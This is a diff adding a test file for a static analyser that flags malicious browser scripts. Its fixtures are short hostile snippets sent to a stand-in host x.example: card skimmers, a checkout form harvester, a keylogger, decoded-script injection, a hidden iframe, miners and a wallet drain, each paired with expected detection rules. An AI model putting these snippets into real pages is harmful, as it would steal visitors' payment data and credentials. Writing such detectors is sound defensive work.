@@ -1,0 +1,129 @@
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { evidenceRules } from '../../../../analyzer/static/evidence/index.ts';
+import { evidence as evidenceSchema, severities } from '../../../../core/schema/index.ts';
+import { analyse } from '../flow/analyse.ts';
+
+/** `severity rule`, worst first. */
+function reasons(text: string): string[] {
+  return analyse(text).evidence.map(({ severity, rule }) => `${severity} ${rule}`);
+}
+
+const card = `document.getElementById('cc-number').value`;
+
+const cases: Record<string, [string, string[]]> = {
+  'a payment SDK that posts to its host': [
+    `window.Pay=function(form){return fetch('https://api.pay.example/tokens',{method:'POST',body:JSON.stringify({number:form.querySelector('[name=cardnumber]').value})}).then(function(r){return r.json()})}`,
+    ['medium card-field-to-host'],
+  ],
+  'a skimmer on submit': [
+    `document.querySelector('form').addEventListener('submit',function(){fetch('https://x.example/',{mode:'no-cors',method:'POST',body:btoa(${card})})})`,
+    ['critical card-field-to-host'],
+  ],
+  'card data in the address of an image': [
+    `new Image().src='https://x.example/p.gif?d='+${card}`,
+    ['critical card-data-in-image-url', 'critical card-field-to-host'],
+  ],
+  'card data over a socket': [
+    `var s=new WebSocket('wss://x.example/');s.send(${card})`,
+    ['high card-data-to-websocket', 'medium card-field-to-host'],
+  ],
+  'every input taken on checkout pages': [
+    `if(/checkout/.test(location.href))setInterval(function(){var o={};document.querySelectorAll('input').forEach(function(e){o[e.name]=e.value});navigator.sendBeacon('https://x.example/',btoa(JSON.stringify(o)))},500)`,
+    ['critical form-harvest-to-host', 'medium checkout-gate'],
+  ],
+  'key presses': [
+    `var s=new WebSocket('wss://x.example/');document.onkeypress=function(e){s.send(e.key)}`,
+    ['high keystrokes-to-host'],
+  ],
+  'a newsletter form': [
+    `fetch('https://news.example/',{method:'POST',body:document.getElementById('email').value}).then(function(r){})`,
+    ['info personal-field-to-host'],
+  ],
+  "a shop's own checkout": [`fetch('/pay',{method:'POST',body:${card}}).then(function(r){})`, []],
+  'card data kept in the browser': [`localStorage.setItem('k',${card})`, ['medium card-data-stored']],
+  'a borrowed name': [
+    `fetch('https://google-anaiytics.example/');new Image().src='https://www.google-analytics.top/x'`,
+    ['medium imitated-host', 'medium imitated-host'],
+  ],
+  'the genuine service': [`new Image().src='https://www.google-analytics.com/x'`, []],
+  'decoded code that is run': [`eval(atob('YWxlcnQoMSk='))`, ['high decoded-code-executed']],
+  'decoded HTML that is written': [
+    `document.write(unescape('%3Ciframe src=//x.example/%3E'))`,
+    ['high decoded-document-write', 'medium script-from-decoded-url'],
+  ],
+  'a script from a decoded address': [
+    `var s=document.createElement('script');s.src=atob('aHR0cHM6Ly94LmV4YW1wbGUvcy5qcw==');document.head.appendChild(s)`,
+    ['high script-from-decoded-url'],
+  ],
+  'a redirect to a decoded address': [
+    `location.href=atob('aHR0cHM6Ly94LmV4YW1wbGUv')`,
+    ['high redirect-to-decoded-url'],
+  ],
+  'a frame nobody can see': [
+    `document.write('<iframe src="https://x.example/" width="0" height="0"></iframe>')`,
+    ['medium hidden-iframe'],
+  ],
+  'a miner by its interface': [`var m=new CoinHive.Anonymous('k');m.start()`, ['high miner-api']],
+  'a miner by its means': [
+    `new Worker('w.js');var s=new WebSocket('wss://pool.example/');s.send('stratum+tcp');WebAssembly.instantiate(b)`,
+    ['high miner-workload'],
+  ],
+  'a wallet asked to pay a fixed address': [
+    `ethereum.request({method:'eth_sendTransaction',params:[{to:'0x000000000000000000000000000000000000dEaD'}]})`,
+    ['high wallet-drain'],
+  ],
+  'an exploit for an old browser': [`new ActiveXObject('WScript.Shell')`, ['high activex-exploit']],
+  'components that are only listed': [`var l=['WScript.Shell','ADODB.Stream']`, []],
+  shellcode: [`var s=unescape('${'%u9090'.repeat(4)}')`, ['high shellcode']],
+  'a form of its own': [
+    `document.body.innerHTML='<form><input name="cc_number"></form>'`,
+    ['low fake-payment-form'],
+  ],
+  'a look for developer tools': [`if(window.outerWidth-window.innerWidth>160)x()`, ['low anti-devtools']],
+  'nothing in ordinary code': [
+    `document.querySelectorAll('.tab').forEach(function(t){t.addEventListener('click',function(){t.classList.add('on')})});fetch('https://api.example/v1').then(function(r){return r.json()})`,
+    [],
+  ],
+};
+
+describe('evidence', () => {
+  for (const [title, [script, expected]] of Object.entries(cases))
+    it(`sees ${title}`, () => assert.deepEqual(reasons(script), expected));
+
+  it('says in plain words what is read, when, and where it goes', () => {
+    const text = `\n  document.forms[0].addEventListener('submit', function () {\n    fetch('https://stats.x.example/c', { body: btoa(${card}) });\n  });`;
+    const [first] = analyse(text).evidence;
+    assert.match(
+      first!.message,
+      /^Reads `#cc-number` on submit and sends it to stats\.x\.example over fetch, as base64/,
+    );
+    assert.deepEqual(first!.location, { line: 3, column: 5 });
+    assert.equal(first!.field, '#cc-number');
+    assert.equal(first!.host, 'stats.x.example');
+    assert.match(first!.snippet, /fetch\('https:\/\/stats/);
+    assert.deepEqual(first!.steps!.at(0)!.location, { line: 3, column: 53 });
+  });
+
+  it('keeps to the published shape and to the severities each rule declares', () => {
+    for (const [script] of Object.values(cases))
+      for (const one of analyse(script).evidence) {
+        evidenceSchema.parse(one);
+        const rule = evidenceRules.find(({ name }) => name === one.rule);
+        const [least, most] = rule!.severity.map((severity) => severities.indexOf(severity));
+        const rank = severities.indexOf(one.severity);
+        assert.ok(rank >= least! && rank <= most!, `${one.rule} gave ${one.severity}`);
+      }
+  });
+
+  it('has the rules that its reference lists', () => {
+    const page = readFileSync(new URL('../../../../docs/reference/evidence.md', import.meta.url), 'utf8');
+    const rows = [...page.matchAll(/^\| `([a-z-]+)` \| ([a-z ]+) \| (.+) \|$/gm)].map(([, ...row]) => row);
+    const rules = evidenceRules.map(({ name, severity: [least, most], meaning }) => [
+      name,
+      least === most ? least : `${least} to ${most}`,
+      meaning,
+    ]);
+    assert.deepEqual(rows, rules);
+  });
+});
